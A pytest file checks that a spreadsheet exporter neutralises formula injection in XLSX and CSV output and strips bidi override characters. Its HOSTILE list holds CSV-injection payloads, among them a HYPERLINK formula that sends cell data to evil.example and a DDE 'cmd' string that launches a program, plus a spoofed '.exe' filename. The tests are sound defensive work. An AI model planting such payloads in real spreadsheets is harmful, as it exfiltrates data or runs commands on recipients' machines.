"""The one spreadsheet writer: what people open in Excel must never run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Sheet, csv_bytes, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def _sheet() -> Sheet:
    return Sheet(
        title="Registrations",
        header=["Name", "Seats", "Balance", "Registered on", "Arrives"],
        rows=[
            *[[text, 1, -5, date(2026, 5, 20), datetime(2026, 5, 20, 9, 30)] for text in HOSTILE],
            ["Алия Нурланова", 2, -0.5, None, None],
        ],
    )


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_looking_text_is_plain_text_in_xlsx(text: str) -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes([_sheet()]))).active
    row = HOSTILE.index(text) + 2
    cell = sheet.cell(row, 1)
    assert cell.data_type == "s"
    # XML readers turn a stored carriage return into a line feed; the apostrophe leads anyway.
    assert cell.value[0] == "'" and cell.value[2:] == text[1:]


def test_numbers_negative_numbers_and_dates_stay_real_cells_in_xlsx() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes([_sheet()]))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0][1:] == (1, -5, datetime(2026, 5, 20), datetime(2026, 5, 20, 9, 30))
    assert sheet.cell(2, 3).data_type == "n"
    assert rows[-1][:3] == ("Алия Нурланова", 2, -0.5)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_formula_looking_text_is_neutralised_in_csv() -> None:
    text = csv_bytes(_sheet()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert [row[0] for row in rows[1:-1]] == ["'" + value for value in HOSTILE]
    assert rows[1][1:] == ["1", "-5", "2026-05-20", "2026-05-20 09:30"]
    assert rows[-1][:3] == ["Алия Нурланова", "2", "-0.5"]


def test_bidi_controls_never_reach_an_export() -> None:
    sheet = Sheet(title="Names\u202e", header=["Name"], rows=[["Aigerim \u202egpj.exe\u202c"]])
    book = load_workbook(io.BytesIO(xlsx_bytes([sheet])))
    assert book.sheetnames == ["Names"]
    assert book.active.cell(2, 1).value == "Aigerim gpj.exe"
    assert "\u202e" not in csv_bytes(sheet).decode("utf-8-sig")
